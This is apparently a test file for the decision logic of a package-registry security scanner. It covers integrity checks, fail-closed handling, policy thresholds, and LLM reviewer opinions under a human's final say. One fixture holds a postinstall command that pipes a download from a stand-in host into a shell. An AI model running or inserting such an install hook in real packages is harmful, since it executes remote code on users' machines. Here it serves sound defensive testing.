import { test } from 'node:test';
import { strict as assert } from 'node:assert';
import { ARTIFACT_REPORTS_SCHEMA_VERSION, type InvestigationRecord } from '@secure-registry/shared';
import { defaultPolicy, parsePolicyText } from '../rules/policy-file.js';
import { RULE_SET_VERSION } from '../rules/registry.js';
import { baseReport } from '../rules/test-support/report.js';
import { decide } from './decide.js';

const V = ARTIFACT_REPORTS_SCHEMA_VERSION;
const PKG = { name: 'demo', version: '1.0.1' };
const shellScript = baseReport({
  installScripts: [
    { event: 'postinstall', command: 'curl http://x.example | sh', implicit: false, isNew: true, files: [] },
  ],
});
shellScript.metadata.packumentInstallEvents = ['postinstall'];

const investigation = (decision: 'approve' | 'reject' | 'escalate' | undefined): InvestigationRecord => ({
  reviewer: 'llm:m',
  provider: 'openai',
  model: 'm',
  outcome: decision ? 'opinion' : 'timeout',
  ...(decision ? { opinion: { decision, rationale: 'because', evidence: ['install-script-new'] } } : {}),
  steps: 2,
  tokens: { input: 1, output: 1, total: 2 },
  toolCalls: [],
  errors: [],
  startedAt: '2026-01-01T00:00:00Z',
  durationMs: 5,
});

test('integrity: a mismatch rejects, no integrity to check holds; no rule runs', () => {
  const finding = { rule: 'integrity-mismatch', severity: 'critical' as const, message: 'm', evidence: [] };
  const mismatch = decide({
    reports: { schemaVersion: V, integrity: { tarballUrl: 'u', findings: [finding] } },
  });
  assert.equal(mismatch.verdict, 'rejected');
  assert.equal(mismatch.stamp, undefined);
  const missing = decide({
    reports: {
      schemaVersion: V,
      integrity: { tarballUrl: 'u', findings: [{ ...finding, rule: 'integrity-missing' }] },
    },
  });
  assert.equal(missing.verdict, 'review');
});

test('fail closed: a failed analysis, or reports without a static report, are held, never approved', () => {
  const failed = decide({
    reports: { schemaVersion: V, failure: { kind: 'error', attempts: 3, message: 'boom' } },
  });
  assert.equal(failed.verdict, 'review');
  assert.equal(failed.reason, 'analysis failed after 3 attempts: boom');
  assert.equal(failed.findings[0]?.rule, 'analysis-failed');
  assert.equal(decide({ reports: { schemaVersion: V } }).verdict, 'review');
  // A static report needs the name, version and policy to be judged: a bug, not a verdict.
  assert.throws(() => decide({ reports: { schemaVersion: V, static: baseReport() } }), /needs the name/);
});

test('rules × policy: the same reports decide differently under a stricter policy, stamped with both versions', () => {
  const reports = { schemaVersion: V, static: shellScript } as const;
  const plain = decide({ ...PKG, reports, policy: defaultPolicy() });
  const strict = parsePolicyText(JSON.stringify({ thresholds: { rejected: 'high', review: 'medium' } }), 's');
  const strictly = decide({ ...PKG, reports, policy: strict });
  assert.notEqual(plain.verdict, strictly.verdict);
  assert.equal(strictly.verdict, 'rejected');
  assert.equal(strictly.stamp?.policyVersion, strict.version);
  assert.equal(strictly.stamp?.ruleSetVersion, RULE_SET_VERSION);
  assert.equal(
    decide({ ...PKG, reports: { schemaVersion: V, static: baseReport() }, policy: defaultPolicy() }).verdict,
    'approved',
  );
});

test('opinions: the LLM on top of the rules as the policy allows; a person is final', () => {
  const reports = { schemaVersion: V, static: shellScript } as const;
  const held = decide({ ...PKG, reports, policy: defaultPolicy() });
  assert.equal(held.verdict, 'review');
  assert.equal(
    decide({ ...PKG, reports, policy: defaultPolicy(), llm: investigation('reject') }).verdict,
    'rejected',
  );
  const approve = decide({ ...PKG, reports, policy: defaultPolicy(), llm: investigation('approve') });
  assert.equal(approve.verdict, 'review', 'an LLM approval of a held package needs a person by default');
  assert.ok(approve.findings.some((f) => f.rule === 'llm-opinion'));
  const clean = { schemaVersion: V, static: baseReport() } as const;
  assert.equal(
    decide({ ...PKG, reports: clean, policy: defaultPolicy(), llm: investigation(undefined) }).verdict,
    'review',
  );
  const person = decide({
    person: { decision: 'approve', reviewer: 'alice', reason: 'known CLI' },
    findings: held.findings,
  });
  assert.equal(person.verdict, 'approved');
  assert.equal(person.reason, 'approved by alice: known CLI');
  assert.deepEqual(person.findings, held.findings);
});
